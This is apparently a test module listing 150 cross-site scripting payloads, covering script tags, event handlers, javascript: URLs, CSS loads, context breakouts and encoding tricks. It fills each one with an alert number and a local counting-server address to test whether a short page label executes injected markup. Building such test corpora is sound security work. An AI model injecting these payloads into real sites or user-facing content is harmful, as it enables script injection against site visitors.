// SPDX-License-Identifier: GPL-3.0-or-later
// 150 ways to make a page run or load something. @n stands for the number of the case, which a script shows in a
// dialog; @s for an address of our own server, http://127.1:PORT/NUMBER, which counts who calls. The ways are short,
// since a speaker's label has room for 80 characters.
const scripts = String.raw`
<script>alert(@n)</script>
<ScRiPt>alert(@n)</sCrIpT>
<script src=@s></script>
<script src="@s"></script>
<script/src='@s'></script>
<script >alert(@n)</script >
<script>alert(@n)</script x>
<script type=module src=@s></script>
<script type="text/javascript">alert(@n)</script>
<svg><script>alert(@n)</script></svg>
<svg><script href=@s></script></svg>
<svg><script xlink:href=@s />
<script>fetch("@s")</script>
<script>alert(@n)<!--</script>
<<script>alert(@n)//<</script>
<scr<script>ipt>alert(@n)</scr</script>ipt>`;

const handlers = String.raw`
<img src=x onerror=alert(@n)>
<img/src=x/onerror=alert(@n)>
<img src=x onerror="alert(@n)">
<img src=x onerror='alert(@n)'>
<img src=x onerror=&#97;lert(@n)>
<img src=x onerror=\u0061lert(@n)>
<image src=x onerror=alert(@n)>
<svg onload=alert(@n)>
<svg/onload=alert(@n)>
<svg onload=alert(@n)//
<body onload=alert(@n)>
<body onpageshow=alert(@n)>
<details open ontoggle=alert(@n)>x
<input autofocus onfocus=alert(@n)>
<select autofocus onfocus=alert(@n)>
<a tabindex=1 autofocus onfocus=alert(@n)>x</a>
<video src=x onerror=alert(@n)>
<video><source onerror=alert(@n)>
<audio src=x onerror=alert(@n)>
<marquee onstart=alert(@n)>x</marquee>
<style onload=alert(@n)></style>
<iframe onload=alert(@n)></iframe>
<object onerror=alert(@n) data=x>
<div onmouseover=alert(@n)>x</div>
<p onclick=alert(@n)>x</p>
<b onpointerenter=alert(@n)>x</b>
<xss onfocus=alert(@n) autofocus tabindex=1>
<link rel=stylesheet href=x onerror=alert(@n)>
<svg><animate onbegin=alert(@n) attributeName=x dur=1s>
<svg><set onbegin=alert(@n) attributeName=x>
<svg><title><img src=x onerror=alert(@n)></title></svg>
<svg><desc><script>alert(@n)</script></desc></svg>
<math><mtext><img src=x onerror=alert(@n)></mtext></math>
<math><annotation-xml encoding=text/html><script>alert(@n)</script>`;

const addresses = String.raw`
<a href=javascript:alert(@n)>x</a>
<a href="JaVaScRiPt:alert(@n)">x</a>
<a href="java&Tab;script:alert(@n)">x</a>
<a href="&#106;avascript&colon;alert(@n)">x</a>
<a href="data:text/html,<script>alert(@n)</script>">x</a>
<svg><a xlink:href=javascript:alert(@n)><text>x
<math href=javascript:alert(@n)>x</math>
<iframe src=javascript:alert(@n)></iframe>
<iframe src="data:text/html,<script>alert(@n)</script>"></iframe>
<iframe src=@s></iframe>
<embed src=javascript:alert(@n)>
<embed src=@s>
<object data=@s></object>
<object data=javascript:alert(@n)></object>
<frameset><frame src=@s>
javascript:alert(@n)//
vbscript:msgbox(@n)
data:text/html,<script>alert(@n)</script>
<img src=@s>
<img srcset=@s>
<video src=@s>
<audio src=@s>
<video poster=@s>
<input type=image src=@s>
<svg><image href=@s></svg>
<svg><image xlink:href=@s></svg>
<svg><use href="@s#x"></svg>
<svg><filter><feImage href=@s></svg>`;

const styles = String.raw`
<style>@import "@s";</style>
<style>@import url(@s);</style>
<style>p{background:url(@s)}</style>
<style>li{list-style:url(@s)}</style>
<style>p{cursor:url(@s),auto}</style>
<svg><style>@import "@s"</style></svg>
<p style=background:url(@s)>x
<p style="background-image:url('@s')">x
<p style=width:expression(alert(@n))>x
<p style=behavior:url(@s)>x
<link rel=stylesheet href=@s>
<link rel=preload as=image href=@s>
<link rel=icon href=@s>
<link rel=prefetch href=@s>
<link rel=import href=@s>
<body background=@s>
<table background=@s>`;

const documents = String.raw`
<meta http-equiv=refresh content="0;url=@s">
<meta http-equiv=refresh content="0;javascript:alert(@n)">
<base href=@s>
<base target=x@n>
<form action=@s><input type=submit>
<form action=javascript:alert(@n)><button>x</button></form>
<button formaction=javascript:alert(@n)>x</button>
<iframe srcdoc="<script>alert(@n)</script>"></iframe>
<iframe srcdoc='<img src=x onerror=alert(@n)>'></iframe>
<iframe srcdoc=&lt;script&gt;alert(@n)&lt;/script&gt;></iframe>`;

const breakouts = String.raw`
"><script>alert(@n)</script>
'><script>alert(@n)</script>
` + "`" + String.raw`><script>alert(@n)</script>
" onfocus=alert(@n) autofocus tabindex=1 x="
' onfocus=alert(@n) autofocus tabindex=1 x='
" onmouseover="alert(@n)
' onmouseover='alert(@n)
" style="background:url(@s)
x onclick=alert(@n) x=y
"><img src=x onerror=alert(@n)>
'><svg/onload=alert(@n)>
--><script>alert(@n)</script>
--!><script>alert(@n)</script>
<!--><script>alert(@n)</script>
]]><script>alert(@n)</script>
<![CDATA[<script>alert(@n)</script>]]>
<?xml version="1.0"?><script>alert(@n)</script>
</script><script>alert(@n)</script>
</style><script>alert(@n)</script>
</title><script>alert(@n)</script>
</textarea><script>alert(@n)</script>
</svg><script>alert(@n)</script>
</noscript><script>alert(@n)</script>
</select><script>alert(@n)</script>
</blockquote></li></ol><script>alert(@n)</script>
</body></html><script>alert(@n)</script>
';alert(@n);//
";alert(@n);//
` + "$" + String.raw`{alert(@n)}
{{constructor.constructor('alert(@n)')()}}
<template><script>alert(@n)</script></template>
<noscript><p title="</noscript><img src=x onerror=alert(@n)>">
<svg></p><style><a id="</style><img src=x onerror=alert(@n)>">
<p title="</p><script>alert(@n)</script>">
<table><td><script>alert(@n)</script>
<img src="@s?
<a href='@s?`;

const encodings = [
  "+ADw-script+AD4-alert(@n)+ADw-/script+AD4-", "&lt;script&gt;alert(@n)&lt;/script&gt;", "&#60;script&#62;alert(@n)&#60;/script&#62;",
  "\uFF1Cscript\uFF1Ealert(@n)\uFF1C/script\uFF1E", "\u2028<script>alert(@n)</script>\u2029", "\u202E<script>alert(@n)</script>\u202C",
  "<\u0001script>alert(@n)</script>", "<img\u000Csrc=x\u000Conerror=alert(@n)>",
];

const of_lines = (lines) => lines.split("\n").filter((line) => line !== "");
export const payloads = [...[scripts, handlers, addresses, styles, documents, breakouts].flatMap(of_lines), ...encodings];
if (payloads.length !== 150 || new Set(payloads).size !== 150) throw new Error(`${payloads.length} payloads, not 150`);

export const fill = (payload, number, sink) => payload.replaceAll("@n", number).replaceAll("@s", `http://${sink}/${number}`);
